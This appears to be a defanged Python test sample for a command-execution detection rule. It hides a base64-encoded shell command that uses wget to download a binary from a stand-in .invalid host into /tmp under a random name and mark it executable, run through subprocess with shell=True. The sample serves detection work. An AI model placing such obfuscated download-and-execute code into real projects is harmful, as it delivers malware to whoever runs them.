import base64
import random
import subprocess


def decode_str(encoded):
    return base64.b64decode(encoded).decode('utf-8')


def processing():
    name = str(random.randint(1, 999999))
    # Defanged: a reserved .invalid host; the command is hidden in base64 with a slot for a random file name.
    # ruleid: code/command-execution
    subprocess.run(str(decode_str('d2dldCAtcU8gL3RtcC97MH0gaHR0cHM6Ly9maWxlcy5leGFtcGxlLmludmFsaWQvYmluL2FnZW50ICYmIGNobW9kICt4IC90bXAvezB9')).format(name), shell=True)
